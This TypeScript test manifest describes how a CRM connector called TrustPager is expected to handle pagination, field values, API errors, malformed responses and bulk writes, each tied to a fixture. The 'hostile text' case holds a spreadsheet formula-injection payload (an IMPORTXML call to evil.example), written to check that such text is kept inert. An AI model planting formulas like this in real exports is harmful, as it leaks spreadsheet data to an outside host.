/** How TrustPager answers the contract. */
import type { FieldType } from '../../src/core/model';
import { day, flag, instant, many, named, number, text } from '../support/crms/values';
import type { Manifest } from './manifest';

const uuid = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
const custom = (id: string, type: FieldType) => ({ key: `custom.${id}`, type });

const NO_TOTAL = 'TrustPager gives no totals.';
const NO_PROMISE = 'The page of bulk-create promises nothing of keys, so nothing is concluded.';

export const trustPagerManifest: Manifest = {
  lists: {
    'one page': { pages: ['list-expanded'], records: 1, end: 'whole' },
    'several pages to the end': {
      pages: ['list-first-page', 'list-next-page-both'],
      records: 3,
      end: 'whole',
    },
    'nothing in it': { pages: ['list-empty'], records: 0, end: 'whole' },
    'a last page that is full': { pages: ['list-full-last-page'], records: 3, end: 'whole' },
    'a page that leads back to itself': {
      pages: ['list-first-page', 'list-cursor-ignored'],
      end: 'badAnswer',
    },
    'more to come, but not where': { pages: ['list-more-without-cursor'], records: 2, end: 'cut' },
    'a record on two pages': {
      pages: ['list-first-page', 'list-id-on-two-pages'],
      records: 3,
      end: 'moved',
    },
    'rows that shifted between pages': {
      never: 'Cursors hold their place, and the list is ordered by creation.',
    },
    'no word about the end': { pages: ['list-without-pagination'], end: 'badAnswer' },
    'no total': { never: NO_TOTAL },
    'a place in the list that is refused': {
      pages: ['list-first-page', 'list-cursor-invalid'],
      end: 'rejected',
    },
    'fewer rows on a page than were asked for': {
      pages: ['list-first-page', 'list-next-page-cursor'],
      records: 3,
      end: 'whole',
    },
  },
  values: {
    'a null is empty': {
      fixture: 'list-all-nulls',
      shows: { value: null, notes: null, lead_source: null, tags: null, stage: null },
      inScope: false,
    },
    'a key that is not there': {
      fixture: 'list-documented-keys-only',
      shows: { value: undefined, notes: undefined, updated_at: undefined, owners: undefined },
    },
    'an unknown choice': {
      fixture: 'list-unknown-status',
      shows: { status: named('cancelled') },
    },
    'an amount': { fixture: 'list-first-page', shows: { value: number(1500) } },
    'an amount with a fraction': { fixture: 'list-odd-values', shows: { value: number(1499.99) } },
    'an amount at the edge': {
      fixture: 'list-odd-values',
      at: 2,
      shows: { value: number(9007199254740991) },
    },
    'an amount of another kind': { fixture: 'list-value-as-text', shows: { value: number(1500) } },
    'a currency': { fixture: 'list-first-page', shows: { currency: text('AUD') } },
    'a day': { fixture: 'list-dates-day-only', shows: { created_at: day('2026-05-29') } },
    'a day at the edge': {
      fixture: 'list-odd-values',
      at: 1,
      shows: { next_action_date: text('2026-02-30') },
    },
    'a moment': {
      fixture: 'list-dates-long',
      shows: { created_at: instant('2026-05-29T07:31:26.165Z') },
    },
    'a moment in another spelling': {
      fixture: 'list-dates-short',
      shows: { created_at: instant('2026-05-29T07:31:26Z') },
    },
    'no date at all': {
      fixture: 'list-odd-values',
      at: 2,
      shows: { next_action_date: text('next week') },
    },
    'hostile text': {
      fixture: 'list-hostile-text',
      shows: { name: text('=IMPORTXML("http://evil.example/?"&A1)') },
    },
    'empty text': { fixture: 'list-all-nulls', shows: { next_action_name: null }, inScope: false },
    'custom fields of each kind': {
      fixture: 'list-first-page',
      columns: [
        custom('deal_size', 'choice'),
        custom('seats', 'number'),
        custom('is_strategic', 'flag'),
      ],
      shows: {
        'custom.deal_size': named('Small'),
        'custom.seats': number(12),
        'custom.is_strategic': flag(true),
      },
    },
    'a custom field without a value': {
      fixture: 'list-first-page',
      columns: [custom('next_step', 'text')],
      shows: { 'custom.next_step': null },
    },
    'a custom value of an unknown kind': {
      fixture: 'list-quick-links',
      columns: [custom('a_field_of_old', 'text')],
      shows: { 'custom.a_field_of_old': text('kept') },
    },
    'a person by name': {
      fixture: 'list-users-by-id',
      shows: {
        owners: { kind: 'many', items: [{ id: uuid(501), label: 'Maria Rossi' }] },
      },
    },
    'a reference without a name': {
      fixture: 'list-documented-keys-only',
      shows: { customer: undefined, contact: undefined },
    },
    'several values in a field': {
      fixture: 'list-tags-mixed',
      shows: { tags: many('hot', 'web') },
    },
    'the stage': { fixture: 'list-first-page', shows: { stage: named(uuid(201), 'Proposal') } },
    'keys that nobody documented': { fixture: 'list-unknown-keys', shows: { value: number(1500) } },
    'another pipeline': {
      fixture: 'list-all-nulls',
      shows: { pipeline: null },
      inScope: false,
    },
  },
  faults: {
    'a key that is not accepted': { fixture: 'unauthorized-bad-key', kind: 'unauthorized' },
    'a missing right': {
      fixture: 'forbidden-scope',
      kind: 'forbidden',
      missing: ['opportunities:write'],
    },
    'a plan without the API': { fixture: 'forbidden-plan', kind: 'planRequired' },
    'no credits left': { fixture: 'no-credits-403', kind: 'creditsGone' },
    'a record that is gone': { fixture: 'get-not-found', kind: 'notFound' },
    'a 404 of something in between': {
      fixture: 'gateway-not-found-html',
      kind: 'badAnswer',
      inDoubt: true,
    },
    'a refused value': {
      fixture: 'bad-value-422',
      kind: 'rejected',
      says: 'status must be one of open, won, lost',
    },
    'a refused value, by its field': {
      fixture: 'missing-fields',
      kind: 'rejected',
      says: 'Required: name',
    },
    'refused values in another form': {
      fixture: 'bad-value-400',
      kind: 'rejected',
      says: 'status must be one of open, won, lost',
    },
    'a malformed request': { fixture: 'invalid-body', kind: 'rejected', says: 'JSON object' },
    'a conflict': { fixture: 'conflict-duplicate-email', kind: 'conflict' },
    'a wrong kind of content': { never: 'TrustPager documents no such refusal.' },
    '429 with seconds': { fixture: 'rate-limited-seconds', kind: 'rateLimited', waitMs: 60_000 },
    '429 with a date': { fixture: 'rate-limited-date', kind: 'rateLimited', waitMs: 60_000 },
    '429 with a fraction of a second': { never: 'Its limits are of minutes and days.' },
    '429 with a moment of reset': { never: 'TrustPager documents no header but Retry-After.' },
    '429 with the wait in its body': { never: 'TrustPager documents no header but Retry-After.' },
    '429 that says nothing': { fixture: 'rate-limited', kind: 'rateLimited', waitMs: 60_000 },
    'a limit of days': { fixture: 'rate-limited-day', kind: 'dailyCap', waitMs: 86_400_000 },
    '5xx in JSON': { fixture: 'server-error', kind: 'serverError' },
    '5xx as a page': { fixture: 'gateway-error-html', kind: 'serverError', inDoubt: true },
    '5xx without a body': { fixture: 'gateway-error-empty', kind: 'serverError', inDoubt: true },
    'a time-out of the gateway': {
      fixture: 'gateway-time-out',
      kind: 'serverError',
      inDoubt: true,
    },
    'an error cut off or of an odd shape': {
      fixture: 'error-cut',
      kind: 'rejected',
      inDoubt: true,
    },
  },
  broken: {
    'a page of HTML for a list': { fixture: 'gateway-html-as-success' },
    'a list cut off': { fixture: 'answer-cut' },
    'an empty answer for a list': { fixture: 'answer-empty' },
    'a list of another shape': { fixture: 'bulk-move' },
    'a record without an id': { fixture: 'list-id-missing' },
    'a page of HTML for a creation': { fixture: 'bulk-create-html' },
    'a creation cut off': { fixture: 'bulk-create-cut' },
    'an empty answer for a creation': { fixture: 'bulk-create-empty' },
  },
  writes: {
    'one created': {
      fixture: 'bulk-create-example-keys',
      asked: 'create',
      count: 2,
      answers: ['record 1', 'record 2'],
    },
    'several created': {
      fixture: 'bulk-create-201',
      asked: 'create',
      count: 2,
      answers: ['record 1', 'record 2'],
      shows: { name: text('Acme website') },
    },
    'several created in part': {
      fixture: 'bulk-create-207',
      asked: 'create',
      count: 2,
      answers: ['record 1', 'rejected: status must be one of open, won, lost'],
    },
    'a creation that names nobody': {
      fixture: 'bulk-create-id-missing',
      asked: 'create',
      count: 2,
      answers: ['record 1', 'unknown'],
    },
    'creations in another order': {
      fixture: 'bulk-create-shuffled',
      asked: 'create',
      count: 2,
      answers: ['record 1', 'record 2'],
    },
    'a creation that waits for a person': {
      fixture: 'approval-queued-bulk-create',
      asked: 'create',
      count: 2,
      answers: ['waiting', 'waiting'],
    },
    'the first answer of a key again': { never: NO_PROMISE },
    'a key with another body': { never: NO_PROMISE },
    'one changed': {
      fixture: 'patch-one',
      asked: 'update',
      answers: ['record 1'],
      shows: { name: text('New name') },
    },
    'several changed in part': { never: 'TrustPager changes one opportunity a request.' },
    'a change that was not taken': {
      fixture: 'patch-status-not-taken',
      asked: 'update',
      answers: ['record 1'],
      shows: { name: text('Acme website'), status: named('open', 'Open') },
    },
    'another record than the changed one': {
      fixture: 'patch-other-record',
      asked: 'update',
      answers: 'badAnswer',
    },
    'a change of what is gone': { fixture: 'patch-gone', asked: 'update', answers: 'notFound' },
    'an empty answer to a change': {
      fixture: 'patch-empty',
      asked: 'update',
      answers: 'badAnswer',
    },
    'one deleted': {
      fixture: 'bulk-delete',
      asked: 'remove',
      count: 3,
      answers: ['done', 'done', 'done'],
    },
    'deleted without a body': {
      fixture: 'bulk-create-empty',
      asked: 'remove',
      answers: 'badAnswer',
    },
    'deleted in part': {
      fixture: 'bulk-delete-partial',
      asked: 'remove',
      count: 2,
      answers: ['done', 'rejected: TrustPager refused it without a reason'],
    },
  },
  names: {
    'some of that name': {
      fixture: 'companies-search-namesakes',
      gives: [
        { label: 'Acme Pty Ltd', detail: 'office@acme.example, A-001' },
        { label: 'Acme Pty Ltd', detail: '+61400000001, A-002' },
      ],
    },
    'none of that name': { fixture: 'companies-search-nothing', gives: [] },
    'too many of that name': {
      never: 'A search gives its hundred best and does not say whether there are more.',
    },
    'a new one of that name': { fixture: 'companies-create', gives: ['New company'] },
  },
  catalogue: {
    pipelines: {
      fixture: 'pipelines',
      asked: 'pipelines',
      gives: [{ id: uuid(101), label: 'Sales' }],
    },
    'no pipeline': { fixture: 'companies-search-nothing', asked: 'pipelines', gives: [] },
    'stages in their order': {
      fixture: 'stages',
      asked: { part: 0 },
      gives: { choices: { stage: ['Lead'] } },
    },
    people: {
      fixture: 'users-by-id',
      asked: { part: 2 },
      gives: { choices: { owners: ['Maria Rossi'] } },
    },
    'people over several pages': {
      fixture: 'companies',
      asked: { part: 2 },
      gives: { more: true },
    },
    'custom fields of each kind': {
      fixture: 'crm-settings',
      asked: { part: 1 },
      gives: {
        types: {
          'custom.next_step': 'text',
          'custom.deal_size': 'choice',
          'custom.seats': 'number',
          'custom.go_live_at': 'instant',
          'custom.is_strategic': 'flag',
        },
      },
    },
    'fields of the same name': {
      fixture: 'crm-settings-same-label',
      asked: { part: 1 },
      gives: { labels: ['Region', 'region (region_2)', 'Stage (stage)'] },
    },
    'the workspace': {
      fixture: 'pipelines',
      asked: { check: 'read pipelines and stages' },
      gives: { fingerprint: [uuid(101)] },
    },
  },
};
